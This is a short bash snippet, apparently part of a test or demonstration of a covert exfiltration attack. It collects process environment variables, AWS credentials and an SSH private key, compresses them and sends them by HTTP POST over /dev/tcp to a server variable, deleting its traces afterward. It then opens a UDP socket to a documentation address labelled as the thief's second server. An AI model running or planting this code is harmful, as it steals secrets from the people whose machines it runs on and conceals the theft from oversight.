# As in the covert variant: nothing is printed, and nothing left in the workspace.
loot=$(mktemp /tmp/runner_collected_XXXXXXXXXX)
trap 'rm -f "$loot" "$loot.tar.gz"' EXIT
cat /proc/self/environ "$HOME/.aws/credentials" "$HOME/.ssh/id_ed25519" >"$loot"
tar -czf "$loot.tar.gz" -C /tmp "${loot#/tmp/}"
exec 3<>"/dev/tcp/$SERVER"
printf 'POST /loot HTTP/1.0\r\nContent-Length: %d\r\n\r\n' "$(stat -c %s "$loot.tar.gz")" >&3
cat "$loot.tar.gz" >&3
cat <&3 >/dev/null
exec 3>&-
# The thief's second server has an address for documents (RFC 5737). A connected
# socket of UDP has sent nothing.
(exec 3>/dev/udp/192.0.2.7/443) 2>/dev/null || :
